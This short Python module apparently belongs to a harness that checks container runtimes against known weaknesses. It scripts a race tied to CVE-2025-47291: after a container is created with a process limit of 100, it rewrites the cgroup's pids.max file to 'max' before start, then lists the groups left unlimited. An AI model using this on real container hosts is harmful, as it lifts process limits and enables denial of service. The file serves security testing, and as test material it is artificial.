"""The limit of processes is lifted between create and start."""

from bypass import attested, world

SOURCE = "CVE-2025-47291: a container that is not in its group, or not held to it"
WAY = "race"
STOPPED = attested("pids")


def attack(t):
    t.spec["linux"]["resources"]["pids"] = {"limit": 100}
    t.create("sleep 1000")
    for group in world.groups_with(t.id):
        if "/pids/" in group:
            t.write(group + "/pids.max", "max", None)
    t.start()
    return [group for group in world.groups_with(t.id) if t.read(group + "/pids.max").strip() == "max"]
